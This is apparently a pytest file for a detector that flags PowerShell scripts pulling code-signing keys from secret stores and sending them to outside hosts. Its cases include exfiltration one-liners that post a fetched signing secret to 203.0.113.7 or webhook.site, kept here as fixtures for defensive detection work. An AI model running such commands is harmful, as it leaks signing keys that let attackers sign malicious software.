"""Signing keys out of stores of secrets, by PowerShell."""

from __future__ import annotations

import pytest

from tests.core.lines import ids, judged_script

SENT = ["fetch_key", "key_leaves_host", "upload_key_file", "key_to_outside"]


@pytest.mark.parametrize(
    ("text", "indicators"),
    [
        ("$s = Get-AzKeyVaultSecret -VaultName kv1 -Name codesign-ev -AsPlainText", ["fetch_key"]),
        ("Get-AzKeyVaultSecret kv1 codesign-ev", ["fetch_key"]),
        ("Get-SECSecretValue -SecretId prod/codesign/pfx", ["fetch_key"]),
        ("(Get-SSMParameter -Name /build/signing-key -WithDecryption $true).Value", ["fetch_key"]),
        ("Get-SSMParameterValue -Name /build/signing-key", ["fetch_key"]),
        ("Get-Secret -Name SigningCert -AsPlainText", ["fetch_key"]),
        ("Get-AzKeyVaultSecret -VaultName kv1 -Name db-password", []),
        ("Set-AzKeyVaultSecret -VaultName kv1 -Name codesign-ev", []),
        ("$s=Get-AzKeyVaultSecret kv1 codesign; irm -Uri http://203.0.113.7/k -Method Post -Body $s", SENT),
        ("$s=Get-Secret codesign; irm https://sign.contoso.example/v1 -Method Post -Body $s", SENT[:2]),
        ("$s=Get-Secret codesign; irm http://203.0.113.7/k", ["fetch_key"]),
        ("$s=Get-Secret codesign; (New-Object Net.WebClient).UploadString('https://webhook.site/1', $s)", SENT),
    ],
)
def test_stores_of_secrets(text: str, indicators: list[str]) -> None:
    assert ids(judged_script(text)) == indicators
